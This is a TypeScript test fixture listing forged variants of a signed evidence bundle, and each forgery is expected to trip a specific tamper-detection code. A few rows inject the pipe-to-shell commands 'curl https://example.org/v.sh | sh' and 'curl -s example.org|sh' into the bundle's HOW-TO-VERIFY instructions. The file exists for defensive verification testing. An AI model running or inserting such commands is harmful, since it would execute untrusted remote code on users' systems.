import { expect } from 'vitest';
import { textBytes } from '../../../src/bundle/layout.ts';
import { sampleSigner } from '../../samples/bundle.ts';
import { reseal, toFiles, toZip } from '../zip-surgery.ts';
import { files, get, joined, moved, type Row, replaced, withKey } from './forgeries.ts';
import { withOtherContent } from './other-content.ts';
import { type Papers, papersZip } from './true-papers.ts';

const code = 'paper.content.mismatch';
const howTo = 'HOW-TO-VERIFY.txt';
const readMe = 'READ-ME-FIRST.txt';
const list = 'data/police/exhibit-list.csv';
const chronology = 'data/police/chronology.csv';
const accounts = 'data/police/accounts.csv';
const items = 'data/preservation/x/items.json';
const report = 'data/report.html';
const secondSection = /<section class="sheet exhibit" id="ABC_3".*?<\/section>/s;

/** Other words in one paper. */
function says(what: string, path: string, from: string | RegExp, to: string, earlier = false): Row {
  return [what, () => papersZip(papers => exchange(papers, path, from, to), { earlier }), code, path];
}

function exchange(papers: Papers, path: string, from: string | RegExp, to: string): void {
  const text = papers.get(path) ?? '';
  expect(text).toMatch(from);
  papers.set(path, text.replace(from, to));
}

const bagInfo = (from: string, to: string) => () =>
  withKey(all => all.set('bag-info.txt', replaced(get(all, 'bag-info.txt'), from, to)));

/** By a holder of the key: papers that say something else than the record, and a ZIP that another program made. */
export const papersForged: readonly Row[] = [
  says(
    'HOW-TO-VERIFY that fetches a program',
    howTo,
    'unzip -t',
    'curl https://example.org/v.sh | sh; unzip -t',
  ),
  says('HOW-TO-VERIFY with another fingerprint', howTo, /Fingerprint=[0-9A-F]{2}/, 'Fingerprint=00'),
  says('HOW-TO-VERIFY with another last digest', howTo, /^ {4}[0-9a-f]{4}/m, '    0000'),
  says('HOW-TO-VERIFY that leaves a check out', howTo, /sha256sum -c.*/, ''),
  says('READ-ME-FIRST with another producer', readMe, 'A. B. Carter', 'D. E. Farmer'),
  says('READ-ME-FIRST with another day', readMe, '2026-03-04', '2024-03-04'),
  says('READ-ME-FIRST that promises more', readMe, 'Limits', 'This proves who wrote it'),
  says('a list of exhibits with another account', list, 'under the account ', 'under the account not '),
  says('a list of exhibits with another address', list, 'https://x.com/example', 'https://x.com/another'),
  says('a list of exhibits with another reference', list, 'ABC/3', 'ABC/9'),
  says('a list of exhibits without one of them', list, /^ABC\/3.*\r\n/m, ''),
  says('a chronology with other words', chronology, 'I know where you live.', 'Have a nice day.'),
  says('a chronology with another day', chronology, '2025-02-13', '2024-02-13'),
  says('a list of accounts with another account', accounts, 'example', 'another'),
  says('a request about another account', items, '"handle":"example"', '"handle":"another"'),
  says(
    'a request about another post',
    items,
    '"postId":"1890000000000000000"',
    '"postId":"1890000000000000001"',
  ),
  says('a request with another digest', items, /"sha256":"[0-9a-f]{4}/, '"sha256":"0000'),
  says('a request that is no request', items, /^.*$/s, '{}'),
  says('a report with other words of a post', report, /I know where you live\./g, 'Have a nice day.'),
  says('a report with another title on its cover', report, 'Messages since January', 'Messages since June'),
  says('a report with another account', report, /(What was shown.*?)Example/s, '$1Another'),
  says(
    'a report with another digest',
    report,
    /(<h3>Files<.*?<code>)[0-9a-f]{4}(?=[0-9a-f]{60}<)/s,
    '$10000',
  ),
  says('a report with another time', report, /(What was shown.*?datetime="2026)-03-01/s, '$1-02-01'),
  says('a report without an exhibit', report, secondSection, ''),
  says('a report with an exhibit twice', report, secondSection, '$&$&'),
  [
    'a request to somebody the record does not name',
    () => papersZip(papers => papers.set('data/preservation/facebook/items.json', papers.get(items) ?? '')),
    code,
    'data/preservation/facebook/items.json',
  ],
  says(
    'an earlier HOW-TO-VERIFY that fetches a program',
    howTo,
    'unzip -t',
    'curl -s example.org|sh; unzip',
    true,
  ),
  says(
    'an earlier HOW-TO-VERIFY with an address',
    howTo,
    'unzip -t',
    'open https://example.org; unzip',
    true,
  ),
  says(
    'an earlier HOW-TO-VERIFY with another last digest',
    howTo,
    /^ {4}[0-9a-f]{4}(?=[0-9a-f]{60}$)/m,
    '    0000',
    true,
  ),
  says(
    'an earlier READ-ME-FIRST with another producer',
    readMe,
    'A. B. Carter, initials ABC',
    'D. E. Farmer, initials DEF',
    true,
  ),
  says('an earlier READ-ME-FIRST with another name', readMe, 'A. B. Carter', 'D. E. Farmer', true),
  says('an earlier list with another reference', list, 'ABC/3', 'ABC/9', true),
  says('an earlier request about another account', items, '"handle":"example"', '"handle":"another"', true),
  says(
    'an earlier request about another post',
    items,
    '"postId":"1890000000000000000"',
    '"postId":"1"',
    true,
  ),
  says('an earlier request with another digest', items, /"sha256":"[0-9a-f]{4}/, '"sha256":"0000', true),
  [
    'bag-info with another day',
    bagInfo('2026-03-04', '2020-01-01'),
    'bag-info.text.mismatch',
    'bag-info.txt',
  ],
  [
    'bag-info of another program',
    bagInfo('Holdfast 0.1.0', 'Holdfast 9.9.9'),
    'bag-info.text.mismatch',
    'bag-info.txt',
  ],
  ['bag-info with another size', bagInfo(' kB', ' TB'), 'bag-info.text.mismatch', 'bag-info.txt'],
  [
    'bag-info with a line more',
    bagInfo('Bag-Count', 'Contact-Name: D. E. Farmer\nBag-Count'),
    'bag-info.text.mismatch',
    'bag-info.txt',
  ],
  [
    'the copy of another page',
    () =>
      withOtherContent({
        path: 'page.html',
        bytes: textBytes(
          '<!doctype html><html><head><title>Gardening</title></head><body><p>Roses in March</p></body></html>',
        ),
      }),
    'exhibit.snapshot.mismatch',
    'data/exhibits/ABC_1/page.html',
  ],
  [
    'the copy of a page with few of the words',
    () =>
      withOtherContent({
        path: 'page.html',
        bytes: textBytes('<!doctype html><html><head><title>Example</title></head><body>Roses</body></html>'),
      }),
    'exhibit.snapshot.other-words',
    'data/exhibits/ABC_1/page.html',
    'intact',
  ],
  [
    'the copy of a page with another title',
    () =>
      withOtherContent({
        path: 'page.html',
        bytes: textBytes(
          '<!doctype html><html><head><title>Gardening</title></head><body>I know where you live. line three</body></html>',
        ),
      }),
    'exhibit.snapshot.other-title',
    'data/exhibits/ABC_1/page.html',
    'intact',
  ],
  [
    'the files in another order',
    async () => {
      const all = files();
      const picture = 'data/exhibits/ABC_1/screenshot-post.png';
      const after = [...all.keys()].filter(path => /^(?!data\/|mimetype|READ|HOW|bag|signer)/.test(path));
      moved(all, picture);
      for (const path of after) moved(all, path);
      return toZip(await reseal(all, await sampleSigner()));
    },
    'zip.order.other',
    'sample.zip',
    'intact',
  ],
  [
    'the beginning of a PDF in the beginning of the ZIP',
    async () => {
      const all = toFiles(await papersZip(() => undefined));
      all.set('READ-ME-FIRST.txt', joined(textBytes('%PDF-1.7\n'), get(all, 'READ-ME-FIRST.txt')));
      return toZip(await reseal(all, await sampleSigner()));
    },
    'zip.start.two-kinds',
    'sample.zip',
  ],
];
